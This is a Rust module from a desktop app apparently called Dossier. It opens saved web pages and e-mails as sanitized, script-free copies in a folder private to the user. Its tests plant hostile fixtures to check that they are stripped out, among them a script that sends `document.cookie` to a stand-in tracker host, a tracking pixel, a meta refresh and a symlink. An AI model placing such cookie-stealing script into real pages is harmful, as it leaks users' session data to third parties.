//! "Open original": a copy of a source's original for the system's viewer. A saved web
//! page (HTML, MHTML) or an e-mail opened as it is would run its scripts and load its
//! trackers from `file://`, telling the page's author when the analyst read it. So such
//! originals open as an inert copy by default: the sanitized rendition Dossier keeps
//! (nothing in it can run or load), in a page whose policy forbids loading anything.
//! The original page itself opens only when the person asks for it, after a warning.
//!
//! Copies go to a folder only this user can read: `$XDG_RUNTIME_DIR/org.dossier.desktop/
//! originals` where the session has one, else the user's cache folder; never a name in
//! `/tmp` that another user could guess and make first.

use crate::paths::{create_private_dir_all, safe_file_name, APP_IDENTIFIER};
use crate::{Error, Result, Store};
use serde::{Deserialize, Serialize};
use std::path::{Path, PathBuf};

/// How to open a source's original.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, specta::Type)]
#[serde(rename_all = "snake_case")]
pub enum OpenAs {
    /// Web pages and e-mails as an inert copy; other files as they are.
    Safe,
    /// The original bytes, whatever they are: a web page then runs in the browser.
    OriginalPage,
}

/// Media types whose originals a browser would run.
fn is_active(media_type: &str) -> bool {
    matches!(media_type, "text/html" | "multipart/related" | "message/rfc822" | "application/xhtml+xml")
}

/// The folder copies go to, private to this user (created 0700; refused when it is a
/// link or belongs to someone else).
pub fn private_folder() -> Result<PathBuf> {
    private_folder_under(std::env::var_os("XDG_RUNTIME_DIR").map(PathBuf::from), cache_dir())
}

/// [`private_folder`] under the session's runtime folder, else under `cache`.
fn private_folder_under(runtime: Option<PathBuf>, cache: Option<PathBuf>) -> Result<PathBuf> {
    let base = runtime
        .filter(|dir| dir.is_absolute() && dir.is_dir())
        .map(|dir| dir.join(APP_IDENTIFIER))
        .or(cache)
        .ok_or_else(|| Error::Invalid("no private folder to open originals from (no HOME)".into()))?;
    let folder = base.join("originals");
    create_private_dir_all(&folder).map_err(|source| Error::ReadFile { path: folder.clone(), source })?;
    #[cfg(unix)]
    {
        use std::os::unix::fs::MetadataExt;
        let meta =
            std::fs::symlink_metadata(&folder).map_err(|source| Error::ReadFile { path: folder.clone(), source })?;
        // SAFETY: geteuid has no preconditions and cannot fail.
        let me = unsafe { libc::geteuid() };
        if !meta.is_dir() || meta.uid() != me || meta.mode() & 0o077 != 0 {
            return Err(Error::Invalid(format!(
                "{} is not a private folder of this user; not writing originals there",
                folder.display()
            )));
        }
    }
    Ok(folder)
}

fn cache_dir() -> Option<PathBuf> {
    std::env::var_os("XDG_CACHE_HOME")
        .map(PathBuf::from)
        .filter(|p| p.is_absolute())
        .or_else(|| std::env::var_os("HOME").filter(|h| !h.is_empty()).map(|h| PathBuf::from(h).join(".cache")))
        .map(|dir| dir.join(APP_IDENTIFIER))
}

/// Writes the copy of source `source_id` to open, `how` says which, into `folder`;
/// returns its path.
pub fn write_copy(store: &Store, source_id: i32, how: OpenAs, folder: &Path) -> Result<PathBuf> {
    let source = store.source(source_id)?;
    let name = source.original_name.clone().unwrap_or_else(|| format!("source-{source_id}.txt"));
    let (file_name, bytes) = if how == OpenAs::Safe && is_active(&source.summary.media_type) {
        let stem = Path::new(&name).file_stem().map(|s| s.to_string_lossy().into_owned()).unwrap_or(name.clone());
        (format!("{source_id}-{} (inert copy).html", safe_file_name(&stem)), inert_page(&source).into_bytes())
    } else {
        (format!("{source_id}-{}", safe_file_name(&name)), store.source_original(source_id)?)
    };
    forget_old_copies(folder);
    let path = folder.join(file_name);
    // A fresh file each time: never write through a link someone left in its place.
    let _ = std::fs::remove_file(&path);
    let mut options = std::fs::OpenOptions::new();
    options.write(true).create_new(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        options.mode(0o600);
    }
    let written = options.open(&path).and_then(|mut file| std::io::Write::write_all(&mut file, &bytes));
    written.map_err(|source| Error::ReadFile { path: path.clone(), source })?;
    Ok(path)
}

/// Copies opened more than a day ago are removed: the runtime folder is a small
/// in-memory one, and each copy can be as large as an imported file.
fn forget_old_copies(folder: &Path) {
    const DAY: std::time::Duration = std::time::Duration::from_secs(24 * 3600);
    let Ok(entries) = std::fs::read_dir(folder) else { return };
    for entry in entries.filter_map(|e| e.ok()) {
        let old = entry.metadata().ok().and_then(|m| m.modified().ok()).and_then(|t| t.elapsed().ok());
        if old.is_some_and(|age| age > DAY) && entry.file_type().is_ok_and(|k| k.is_file() || k.is_symlink()) {
            let _ = std::fs::remove_file(entry.path());
        }
    }
}

/// The page of an inert copy: the sanitized rendition (or the text), under a policy
/// that lets nothing load or run, and a line saying what it is.
fn inert_page(source: &crate::model::Source) -> String {
    let esc = |text: &str| html_escape::encode_text(text).into_owned();
    let attr = |text: &str| html_escape::encode_double_quoted_attribute(text).into_owned();
    // Sanitized again: a store from elsewhere may hold a rendition Dossier never made.
    let body = match &source.html {
        Some(html) if !html.trim().is_empty() => crate::import::html::sanitize(html),
        _ => format!("<pre>{}</pre>", esc(&source.text)),
    };
    let summary = &source.summary;
    let from = match &summary.url {
        Some(url) => format!(" of <span class=\"url\">{}</span>", esc(url)),
        None => String::new(),
    };
    let language = summary.language.as_deref().map(|l| format!(" lang=\"{}\"", attr(l))).unwrap_or_default();
    format!(
        "<!DOCTYPE html>\n<html{language}>\n<head>\n<meta charset=\"utf-8\">\n\
<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'\">\n\
<meta name=\"referrer\" content=\"no-referrer\">\n<title>{title}</title>\n\
<style>body{{max-width:44rem;margin:2rem auto;padding:0 1rem;font:17px/1.55 Georgia,serif;color:#222}}\
.dossier-note{{font:13px/1.4 sans-serif;color:#555;border:1px solid #ccc;border-radius:6px;padding:.5rem .75rem;margin-bottom:1.5rem}}\
.url{{word-break:break-all}}pre{{white-space:pre-wrap}}</style>\n</head>\n<body>\n\
<p class=\"dossier-note\">Dossier's inert copy{from}: the text as imported, with scripts, images, styles and everything the page would load removed. The page itself opens from the reader's <em>Open original page…</em>.</p>\n\
<h1>{title}</h1>\n<article>\n{body}\n</article>\n</body>\n</html>\n",
        title = esc(&summary.title),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::import::{self, ImportOptions};

    fn library_with_page(dir: &Path) -> (Store, i32) {
        let page = dir.join("tracked page.html");
        std::fs::write(
            &page,
            "<html><head><title>Envoy lands in Havana</title><link rel=canonical href=\"https://news.example/envoy\">\
             <script>fetch('https://tracker.example/read?who='+document.cookie)</script></head><body><article>\
             <h1>Envoy lands in Havana</h1><p>The envoy of Venezuela landed in Havana on Monday, officials said, \
             and met the foreign minister for two hours.<img src=\"https://tracker.example/pixel.gif\"></p>\
             <p onclick=\"alert(1)\">A second paragraph on the talks, which ran late into the evening.</p>\
             <iframe src=\"https://ads.example/\"></iframe></article></body></html>",
        )
        .unwrap();
        let mut store = Store::open(&dir.join("library.dossier")).unwrap();
        let report = import::import_paths(&mut store, &[page], &ImportOptions::default());
        let Some(import::FileOutcome::Imported { source_id }) = report.files.first().map(|f| f.outcome.clone()) else {
            panic!("{report:?}")
        };
        (store, source_id)
    }

    #[test]
    fn a_web_page_opens_as_an_inert_copy_unless_the_page_itself_is_asked_for() {
        let dir = tempfile::tempdir().unwrap();
        let (store, id) = library_with_page(dir.path());
        let folder = dir.path().join("private");
        std::fs::create_dir(&folder).unwrap();

        let copy = write_copy(&store, id, OpenAs::Safe, &folder).unwrap();
        assert!(copy.to_string_lossy().ends_with("(inert copy).html"), "{}", copy.display());
        let page = std::fs::read_to_string(&copy).unwrap();
        assert!(page.contains("default-src 'none'"), "{page}");
        assert!(page.contains("landed in Havana on Monday") && page.contains("news.example/envoy"));
        for active in ["<script", "tracker.example", "onclick", "<iframe", "<img", "ads.example"] {
            assert!(!page.contains(active), "{active} in the inert copy:\n{page}");
        }

        let original = write_copy(&store, id, OpenAs::OriginalPage, &folder).unwrap();
        assert_eq!(std::fs::read(&original).unwrap(), store.source_original(id).unwrap());
        assert!(original.to_string_lossy().ends_with("tracked page.html"));
    }

    /// A rendition Dossier did not make (a store from elsewhere) is sanitized again.
    #[test]
    fn a_planted_rendition_is_made_inert_too() {
        let dir = tempfile::tempdir().unwrap();
        let mut store = Store::open(&dir.path().join("library.dossier")).unwrap();
        let planted = crate::model::NewSource {
            title: "Planted".into(),
            media_type: "text/html".into(),
            original: b"<p>x</p>".to_vec(),
            text: "Planted text".into(),
            html: Some("<meta http-equiv=refresh content=\"0;url=https://tracker.example/\"><link rel=dns-prefetch href=//tracker.example><p>Planted text</p>".into()),
            ..Default::default()
        };
        let id = match store.insert_source(&planted).unwrap() {
            crate::store::Inserted::New(id) | crate::store::Inserted::Duplicate(id) => id,
        };
        let page = std::fs::read_to_string(write_copy(&store, id, OpenAs::Safe, dir.path()).unwrap()).unwrap();
        assert!(
            page.contains("Planted text") && !page.contains("tracker.example") && !page.contains("refresh"),
            "{page}"
        );
    }

    #[cfg(unix)]
    #[test]
    fn copies_go_to_a_folder_of_this_user_alone_and_never_through_a_planted_link() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let (store, id) = library_with_page(dir.path());
        let runtime = dir.path().join("run-user");
        std::fs::create_dir(&runtime).unwrap();
        let folder = private_folder_under(Some(runtime.clone()), None).unwrap();
        assert_eq!(folder, runtime.join("org.dossier.desktop/originals"));
        let cache = dir.path().join("home/.cache/org.dossier.desktop");
        let fallback = private_folder_under(None, Some(cache.clone())).unwrap();
        assert_eq!(fallback, cache.join("originals"), "no runtime folder: the user's cache");
        std::fs::set_permissions(&fallback, std::fs::Permissions::from_mode(0o755)).unwrap();
        let refused = private_folder_under(None, Some(cache)).unwrap_err().to_string();
        assert!(refused.contains("not a private folder"), "{refused}");
        assert_eq!(std::fs::metadata(&folder).unwrap().permissions().mode() & 0o777, 0o700);

        let victim = dir.path().join("victim.txt");
        std::fs::write(&victim, "keep me").unwrap();
        let planted = folder.join(format!("{id}-tracked page (inert copy).html"));
        std::os::unix::fs::symlink(&victim, &planted).unwrap();
        let copy = write_copy(&store, id, OpenAs::Safe, &folder).unwrap();
        assert_eq!(copy, planted);
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me", "the link was replaced, not written through");
        assert!(!std::fs::symlink_metadata(&copy).unwrap().file_type().is_symlink());
    }
}
